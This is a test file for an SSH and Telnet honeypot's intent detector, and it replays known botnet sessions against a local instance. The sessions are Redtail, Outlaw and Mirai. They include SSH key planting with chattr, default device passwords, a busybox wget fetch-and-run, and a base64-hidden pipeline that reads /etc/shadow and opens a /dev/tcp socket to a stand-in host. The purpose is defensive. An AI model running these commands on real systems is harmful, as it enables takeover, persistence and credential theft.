import assert from 'node:assert/strict'
import type { EventEmitter } from 'node:events'
import { type TestContext, test } from 'node:test'
import ssh2 from 'ssh2'
import type { Running } from '../../src/app/up.ts'
import {
  configOf,
  eventLog,
  onceThere,
  PROMPT,
  raw,
  start,
  temporaryFolder,
  WAIT_MS_MAX,
} from '../e2e/kit.ts'

/** What a log tells of intents: signs in order, each with its evidence; and the verdicts. */
const toldIn = (folder: string) => {
  const lines = eventLog(folder).map((line) => JSON.parse(line) as Record<string, unknown>)
  const of = (eventid: string) => lines.filter((it) => it.eventid === eventid)
  return {
    signs: of('mimicry.intent.sign').map((it) => `${it.sign}: ${it.evidence}`),
    verdicts: of('mimicry.intent.verdict').map((it) => it.verdict),
    all: [...of('mimicry.intent.sign'), ...of('mimicry.intent.verdict')],
  }
}

/** What of ssh2 1.17.0 is used here, beyond what the tools use. */
interface Client extends EventEmitter {
  connect(config: object): void
  exec(command: string, then: (failure: Error | undefined, channel: Channel) => void): void
  end(): void
}
interface Channel extends EventEmitter {
  readonly stderr: EventEmitter
}

const dial = (running: Running, password = 'x'): Promise<Client> =>
  new Promise((ready, fails) => {
    const client = new ssh2.Client() as unknown as Client
    client.once('ready', () => ready(client))
    client.once('error', fails)
    const port = running.doors[0]?.port ?? 0
    const who = { username: 'root', password, ident: 'Go' }
    client.connect({ host: '127.0.0.1', port, ...who, readyTimeout: WAIT_MS_MAX })
  })

const exec = (client: Client, command: string): Promise<string> =>
  new Promise((done, fails) => {
    client.exec(command, (failure, channel) => {
      if (failure !== undefined) return fails(failure)
      let seen = ''
      channel.on('data', (bytes: Buffer) => {
        seen += bytes
      })
      channel.stderr.on('data', () => {})
      channel.on('close', () => done(seen))
    })
  })

/** Stops when the log has the end of the visit. */
const stopped = async (running: Running, folder: string): Promise<void> => {
  await onceThere(() => eventLog(folder).find((line) => line.includes('cowrie.session.closed')))
  await running.stop()
}

const begin = async (t: TestContext) => {
  const folder = temporaryFolder(t)
  const running = await start(t, configOf(folder, { MIMICRY_SENSOR: 'test' }))
  return { folder, running }
}

test('a miner that comes with a key, as redtail does', async (t) => {
  const { folder, running } = await begin(t)
  const client = await dial(running)
  await exec(
    client,
    'cd /tmp; echo "exit 0" > clean.sh; cp clean.sh setup.sh; cp setup.sh .redtail',
  )
  await exec(
    client,
    'cd /tmp; chmod +x clean.sh; sh clean.sh; rm -rf clean.sh; chmod +x setup.sh; sh setup.sh; rm -rf setup.sh; ' +
      'mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "ssh-rsa AAAAB3Nza rsa-key-1" > ~/.ssh/authorized_keys; ' +
      'chattr +ai ~/.ssh/authorized_keys; uname -a',
  )
  client.end()
  await stopped(running, folder)
  const { signs, verdicts, all } = toldIn(folder)
  assert.deepEqual(signs, [
    'automation-client: SSH-2.0-Go',
    'redtail: cp setup.sh .redtail',
    'redtail: /tmp/.redtail',
    'redtail: sh setup.sh',
    'immutable: chattr -ia /root/.ssh/authorized_keys',
    'key-planted: bash wrote /root/.ssh/authorized_keys (truncate)',
    'immutable: chattr +ai /root/.ssh/authorized_keys',
  ])
  assert.deepEqual(verdicts, ['botnet', 'miner', 'intruder'])
  const [first, second] = all.map(({ timestamp, uuid, session, src_port, ...rest }) => rest)
  assert.deepEqual(
    [first, second],
    [
      {
        protocol: 'ssh',
        src_ip: '127.0.0.1',
        dst_ip: '127.0.0.1',
        dst_port: running.doors[0]?.port,
        sign: 'automation-client',
        techniques: ['T1021.004'],
        weight: 5,
        score: 5,
        evidence: 'SSH-2.0-Go',
        eventid: 'mimicry.intent.sign',
        sensor: 'test',
        message: 'Sign automation-client [T1021.004] score 5',
      },
      {
        protocol: 'ssh',
        src_ip: '127.0.0.1',
        dst_ip: '127.0.0.1',
        dst_port: running.doors[0]?.port,
        sign: 'redtail',
        techniques: ['T1105', 'T1496.001'],
        weight: 60,
        score: 65,
        evidence: 'cp setup.sh .redtail',
        eventid: 'mimicry.intent.sign',
        sensor: 'test',
        message: 'Sign redtail [T1105 T1496.001] score 65',
      },
    ],
  )
})

test('a botnet that locks others out, as Outlaw does', async (t) => {
  const { folder, running } = await begin(t)
  const client = await dial(running, '3245gs5662d34')
  for (const command of [
    'cd ~; chattr -ia .ssh; lockr -ia .ssh',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nza mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    'cat /proc/cpuinfo | grep name | wc -l',
    'echo -e "x\nh7Kq\nh7Kq"|passwd',
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    'nproc; pkill -9 xmrig; crontab -l',
    'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; echo > /etc/hosts.deny',
  ]) {
    await exec(client, command)
  }
  client.end()
  await stopped(running, folder)
  const { signs, verdicts } = toldIn(folder)
  assert.deepEqual(signs, [
    'automation-client: SSH-2.0-Go',
    'bot-password: root/3245gs5662d34',
    'immutable: chattr -ia .ssh',
    'immutable: lockr -ia .ssh',
    'outlaw: lockr -ia .ssh',
    'outlaw: echo ssh-rsa AAAAB3Nza mdrfckr',
    'key-planted: bash wrote /root/.ssh/authorized_keys (new)',
    'password-change: passwd',
    'mining-reconnaissance: 3 questions, at last nproc',
    'rival-killing: pkill -9 xmrig',
  ])
  assert.deepEqual(verdicts, ['bruteforcer', 'botnet', 'miner', 'intruder'])
})

test("Mirai's scanner and loader on the Telnet door", async (t) => {
  const folder = temporaryFolder(t)
  const door = '[{host: "127.0.0.1", port: 0, as: telnet}]'
  const settings = { MIMICRY_LISTEN: door, MIMICRY_PERSONA: 'debian-12' }
  const running = await start(t, configOf(folder, settings))
  const client = await raw(t, running)
  await client.until('ogin: ')
  client.send('root\r\n')
  await client.until('assword: ')
  client.send('xc3511\r\n')
  await client.until('# ')
  for (const line of [
    'enable',
    'system',
    'shell',
    'sh',
    '/bin/busybox TSOLU',
    '/bin/busybox cat /proc/mounts; /bin/busybox TSOLU',
    '>/tmp/.nt && cd /tmp; >/var/tmp/.nt && cd /var/tmp; >/dev/shm/.nt && cd /dev/shm',
    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .nt; /bin/busybox wget http://192.0.2.9/m -O - > .nt",
    '/bin/busybox chmod 777 .nt; ./.nt; rm -f .nt',
  ]) {
    client.send(`${line}\r\n`)
    await client.until('# ')
  }
  client.socket.destroy()
  await stopped(running, folder)
  const { signs, verdicts } = toldIn(folder)
  assert.deepEqual(signs, [
    'device-password: root/xc3511',
    'mirai-dialogue: 3 of its words, at last shell',
    'busybox-token: /bin/busybox TSOLU',
    'mount-probe: /bin/busybox cat /proc/mounts',
    'writable-hunt: .nt in 3 folders',
    'byte-dropper: echo -ne \\x7f\\x45\\x4c\\x46\\x01\\x01',
    'downloader: wget http://192.0.2.9/m -O -',
    'open-mode: mode 777 for /dev/shm/.nt',
    'dropped-program: /dev/shm/.nt',
    'self-removal: /dev/shm/.nt',
  ])
  assert.deepEqual(verdicts, ['botnet', 'intruder'])
})

test('what a pipeline decodes is judged, not the line it was typed in', async (t) => {
  const { folder, running } = await begin(t)
  const client = await raw(t, running)
  await client.until(PROMPT)
  const hidden = Buffer.from(
    'cat /etc/shadow >/dev/null\nexec 5<>/dev/tcp/192.0.2.9/443\n',
  ).toString('base64')
  client.send(`echo ${hidden} | base64 -d | bash 2>/dev/null; history -c\n`)
  await client.until(PROMPT)
  client.socket.destroy()
  await stopped(running, folder)
  const { signs } = toldIn(folder)
  assert.deepEqual(signs, [
    'decoded-commands: cat /etc/shadow',
    'credential-read: cat read /etc/shadow',
    'decoded-commands: exec',
    'shell-socket: bash to 192.0.2.9 port 443',
    'history-off: history -c',
  ])
})

test('an administrator who works for a while is not judged', async (t) => {
  const { folder, running } = await begin(t)
  const client = await raw(t, running)
  await client.until(PROMPT)
  for (const line of [
    'uptime; w; df -h /; free -m; nproc; ps aux | head -3; uname -a',
    'tail -n 5 /var/log/nginx/error.log; grep -c GET /var/log/nginx/access.log',
    'mkdir -p /srv/app && cd /srv/app && echo "PORT=8080" > .env && cat .env && cd',
    'printf "server { listen 81; }\\n" > /etc/nginx/conf.d/app.conf; ls /etc/nginx/conf.d',
    'tar czf /var/backups/etc.tar.gz /etc/nginx 2>/dev/null; ls -l /var/backups | head -2',
    'curl -sI http://127.0.0.1/; cat /etc/hosts; id; hostname',
    'for i in 1 2 3; do date > /dev/null; done; crontab -l',
    'find /var/log -name "*.gz" | head -2; rm -f /tmp/old.log',
  ]) {
    client.send(`${line}\n`)
    await client.until(PROMPT)
  }
  client.socket.destroy()
  await stopped(running, folder)
  const { signs, verdicts } = toldIn(folder)
  assert.deepEqual(verdicts, [])
  assert.deepEqual(signs, [
    'credential-read: cat read /srv/app/.env',
    'credential-read: tar read /etc/nginx/.htpasswd',
    'reconnaissance: 6 questions, at last /etc/hosts',
  ])
})
